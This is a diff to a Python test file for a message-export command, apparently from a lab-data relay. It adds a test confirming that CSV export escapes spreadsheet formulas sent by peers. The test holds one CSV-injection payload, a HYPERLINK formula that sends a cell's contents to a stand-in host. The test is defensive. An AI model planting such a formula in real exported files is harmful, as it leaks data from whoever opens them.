@@ -1,5 +1,6 @@
 """`labrelay messages export`: the same rows in three forms, nothing of a patient in them unless asked for."""
 
+import asyncio
 import csv
 import json
 import sqlite3
@@ -15,6 +16,7 @@ from engine.commands.output import ExitCode
 from engine.journal import Journal
 from tests.support.command_line import Ran, labrelay
 from tests.support.filled_journal import CANARY, CHANNEL, DELIVERED, REFUSED, UNMAPPED, WAITING, fill_journal, payload
+from tests.support.journals import received
 from tests.support.sites import make_site
 
 FORMS = ("db", "csv", "ndjson")
@@ -117,6 +119,25 @@ def test_contents_are_exported_to_who_asks_and_that_is_noted_first(site: Path, t
         with closing(sqlite3.connect(file)) as connection:
             (kept,) = connection.execute("SELECT payload FROM messages WHERE id = ?", (DELIVERED,)).fetchone()
         assert kept == payload(DELIVERED)
+
+
+def test_no_sender_writes_a_formula_into_a_spreadsheet(site: Path, tmp_path: Path) -> None:
+    """A control id, or a whole text, is whatever a peer has sent."""
+    formula = '=HYPERLINK("http://x/?"&A1)'
+
+    async def fill() -> None:
+        journal = Journal.open(site / "var", clock=SystemClock())
+        journal.recover()
+        journal.start(asyncio.get_running_loop())
+        await journal.append(received(formula.encode(), control_id=formula), repeat_window_s=1.0)
+        await journal.stop()
+
+    asyncio.run(fill())
+    file = tmp_path / "out.csv"
+    assert export(site, file, "--unmask").code == ExitCode.OK
+    with file.open(newline="") as lines:
+        newest = next(csv.DictReader(lines))
+    assert (newest["control_id"], newest["payload"]) == ("'" + formula, "'" + formula)
 
 
 def test_nothing_is_overwritten_unasked(site: Path, tmp_path: Path) -> None:
